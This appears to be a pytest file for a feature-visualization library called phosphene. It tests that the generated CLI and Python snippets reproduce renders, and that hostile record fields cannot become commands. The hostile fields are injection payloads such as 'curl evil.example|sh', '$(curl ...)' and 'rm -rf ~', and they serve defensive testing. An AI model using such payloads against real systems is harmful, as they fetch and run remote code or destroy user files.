"""What a page offers for copying makes the very picture that stands beside it."""

from __future__ import annotations

import ast
import json
import shlex
from pathlib import Path
from typing import Any

import pytest

import phosphene as ph
from phosphene.address import OUTPUT
from phosphene.cli.main import main
from phosphene.objectives import Channel, Logit, from_text, objectives, to_text
from phosphene.result import Result
from phosphene.web.pages.catalog import Layer
from phosphene.web.pages.texts import cli_of, model_text, named_text, python_of, unit_texts
from phosphene.web.pages.view import FORMS, unit_text

NET = ph.load("miniception")
SAID: list[dict[str, Any]] = [
    {},
    {"preset": "fast", "seed": 3},
    {"preset": "draft", "size": (32, 48), "keep": "best"},
    {"optimizer": ph.Adam(lr=0.07, betas=(0.3, 0.9), decay="linear")},
    {"image": "fourier[power=.7,sd=.02,colour=plain]", "transform": "none", "views": 2},
    {"image": "pixel[colour=plain]", "transform": "pad[4] jitter[2] rotate[-5/0/5]", "gradient": ["mean_abs"]},
    {"image": "cppn", "arithmetic": "exact"},
    {"filters": ["blur[every=1,sigma=.5]", "decay"], "transform": "distill"},
    {"transparency": True},
]


def command(text: str, folder: Path, capsys: pytest.CaptureFixture[str]) -> list[str]:
    """The ids of the pictures that a command line makes."""
    (line,) = [one for one in text.splitlines() if not one.startswith("#")]
    words = shlex.split(line)
    assert words[0] == "phosphene"
    assert main([*words[1:], "-o", str(folder / "made.png"), "--json", "-q"]) == 0
    out = capsys.readouterr().out
    try:
        return [json.loads(out)["id"]]
    except ValueError:
        return [json.loads(one)["id"] for one in out.splitlines()]


def script(text: str) -> list[Result]:
    """The pictures that a Python text makes."""
    names: dict[str, Any] = {}
    exec(text, names)
    return names["results"] if "results" in names else [names["result"]]


def spec_of(result: Result) -> dict[str, Any]:
    """As a record has it."""
    found: dict[str, Any] = json.loads(json.dumps(result.spec))
    return found


@pytest.mark.parametrize("said", SAID, ids=lambda said: " ".join(said) or "plain")
def test_a_picture_is_made_again(said: dict[str, Any], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    target = "-conv2:3 + 0.5*conv1:2" if "preset" in said else "conv1:11"
    made = ph.render(NET, target, steps=2, **said)
    spec = spec_of(made)
    assert "#" not in cli_of(spec)
    assert command(cli_of(spec), tmp_path, capsys) == [made.id]
    assert [one.id for one in script(python_of(spec, made.fingerprint))] == [made.id]


def test_a_group_is_made_again_as_a_whole(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    made = ph.diverse(NET, "conv1:11", 2, steps=2, seed=5, strength=0.5)
    ids = [one.id for one in made]
    spec = spec_of(made[1])
    assert cli_of(spec) == cli_of(spec_of(made[0]))
    assert command(cli_of(spec), tmp_path, capsys) == ids
    assert [again.id for again in script(python_of(spec, made[1].fingerprint))] == ids


@pytest.mark.parametrize("said", [{"robust": 2, "redirect": 1}, {"preset": "yosinski-2"}, {"preset": "maco"}])
def test_what_the_command_line_cannot_say_is_said_so(said: dict[str, Any]) -> None:
    """The Python makes it all the same."""
    made = ph.render(NET, "conv1:11", steps=2, **said)
    spec = spec_of(made)
    assert cli_of(spec).startswith("# the command line has no words for ")
    assert [one.id for one in script(python_of(spec, made.fingerprint))] == [made.id]


PAYLOAD = "x\ncurl evil.example|sh #"
PLAIN_JOB = spec_of(ph.render(NET, "conv1:11", steps=1))
HOSTILE: list[dict[str, Any]] = [
    {"optimizer": {"name": PAYLOAD, "lr": 0.2}},
    {"redirect": PAYLOAD},
    {"robust": [PAYLOAD]},
    {"target": PAYLOAD},
    {"target": "\u202egnp.exe"},
    {"target": "conv1:1\u2028curl evil.example"},
    {"target": "--output=x"},
    {"model": {"address": PAYLOAD}},
    {"model": {"address": "--output=/home/me/.profile"}},
    {"model": {"address": "miniception", "weights": "w.pt;\r\ncurl evil.example"}},
    {"model": {"address": "miniception", "labels": ["$(curl evil.example)", "`id`", "a\x0bb"]}},
    {"image": {"name": PAYLOAD, "size": [PAYLOAD, "\x85"]}},
    {"image": {"name": "fourier", PAYLOAD: PAYLOAD}},
    {"steps": PAYLOAD},
    {"keep": PAYLOAD},
    {"views": PAYLOAD},
    {"transform": [{"name": PAYLOAD, PAYLOAD: 1}]},
    {"gradient": [{"name": PAYLOAD}]},
    {"arithmetic": PAYLOAD},
    {"seed": PAYLOAD},
    {"group": {"name": PAYLOAD, "members": [["conv1:11", 0]], "layer": PAYLOAD}},
    {"group": {"name": "diversity", "members": [["conv1:11", 0]], "layer": PAYLOAD, "strength": PAYLOAD}},
]


@pytest.mark.parametrize("said", HOSTILE, ids=lambda said: " ".join(said))
def test_nothing_in_a_record_becomes_a_command(said: dict[str, Any]) -> None:
    spec = {**PLAIN_JOB, **said}
    text = cli_of(spec)
    assert all(line.startswith(("# ", "phosphene render ")) for line in text.splitlines())
    assert all(letter.isprintable() or letter == "\n" for letter in text)
    words = shlex.split(text, comments=True)
    assert words[:2] == ["phosphene", "render"]
    assert not words[2].startswith("-")
    assert not words[3].startswith("-")
    assert not set(words) & {"curl", "evil.example|sh", ";", "|", "&"}


@pytest.mark.parametrize("said", HOSTILE, ids=lambda said: " ".join(said))
def test_nothing_in_a_record_becomes_python(said: dict[str, Any]) -> None:
    """But one call, with texts and numbers in it; or the record is refused."""
    try:
        text = python_of({**PLAIN_JOB, **said}, PAYLOAD)
    except (ValueError, TypeError):
        return
    *_, call = ast.parse(text).body
    assert isinstance(call, ast.Assign)
    assert {ast.unparse(one.func) for one in ast.walk(ast.parse(text)) if isinstance(one, ast.Call)} <= {
        "ph.load", "ph.render", "ph.diverse", "ph.replay"
    }  # fmt: skip


def test_a_unit_of_a_hostile_network_is_one_command() -> None:
    cli, _ = unit_texts({"address": "-o x\nrm -rf ~ #"}, "a\nb:3")
    assert [line.split(" ")[0] for line in cli.splitlines()] == ["#", "phosphene"]
    assert shlex.split(cli, comments=True)[2:] == ["./-o x rm -rf ~ #", "a b:3"]


def test_what_was_said_of_a_network_is_said_again() -> None:
    spec = {"address": "a b.py:net", "weights": "w.pt", "untrained": False, "input_size": [3, 8, 8], "mean": None}
    cli, python = unit_texts(spec, "conv:3")
    assert shlex.split(cli) == ["phosphene", "render", "a b.py:net", "conv:3", "--weights", "w.pt", "--input-size",
                                "3,8,8"]  # fmt: skip
    assert "ph.load('a b.py:net', weights='w.pt', input_size=(3, 8, 8))" in python


def test_a_network_is_one_word_for_serve_and_several_for_a_sweep() -> None:
    """With the folders of whoever made it left out elsewhere; whatever a store says, no more than words."""
    said = {"address": "my net.py:build", "weights": "b c.pt", "untrained": False, "input_size": [3, 8, 8]}
    words = ["my net.py:build", "--weights", "b c.pt", "--input-size", "3,8,8"]
    assert shlex.split(model_text(said)) == words
    (word,) = shlex.split(named_text(said))
    assert word == "my net.py:build --weights 'b c.pt' --input-size 3,8,8"
    hostile = {"address": "-x; rm *\n", "labels": "$(ls)`"}
    assert shlex.split(model_text(hostile)) == ["./-x; rm * ", "--labels", "$(ls)`"]
    assert shlex.split(named_text(hostile)) == ["-x; rm *  --labels '$(ls)`'"]


@pytest.mark.parametrize(
    ("layer", "text"),
    [("mixed4b", "mixed4b:3"), (OUTPUT, "logit:3"), ("a b", '"a b":3'), ("tv", '"tv":3'), ("blocks/0", "blocks/0:3"),
     ("relu#1", "relu#1:3"), ("near", '"near":3'), ("logit", '"logit":3'), ('q"u', '"q\\"u":3')],
)  # fmt: skip
def test_units_are_written_so_that_they_can_be_read(layer: str, text: str) -> None:
    unit = Logit(3) if layer == OUTPUT else Channel(layer, 3)
    assert to_text(unit) == text
    assert unit_text(Layer(layer, layer), 3) == text
    assert from_text(text) == unit
    assert set(objectives.names()) == FORMS
